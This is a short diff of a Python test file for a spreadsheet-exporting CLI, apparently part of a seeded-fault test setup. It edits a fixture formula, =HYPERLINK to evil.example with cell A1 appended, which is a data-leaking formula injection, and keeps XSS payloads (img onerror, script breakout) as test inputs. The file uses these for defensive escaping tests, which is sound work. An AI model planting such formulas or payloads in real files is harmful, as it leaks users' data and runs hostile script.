@@ -29,7 +29,7 @@ from tests.test_cli import SAMPLES, check, claimlint, report
 
 FLAGGED = SAMPLES / "flagged.csv"
 KEPT = ("Owner", "Status", "Note")
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 IMAGE = "<img src=x onerror=alert(1)>"
 SCRIPT = "</script><script>alert(2)</script>"
 
@@ -240,6 +240,7 @@ def test_an_empty_file_is_filled(tmp_path: Path) -> None:
     assert sheet_rows(out)
 
 
+@pytest.mark.fault(91)
 def test_text_from_claims_is_text_in_every_sheet(tmp_path: Path) -> None:
     out = tmp_path / "work.xlsx"
     assert check(hostile(tmp_path), "-o", out).returncode == 1
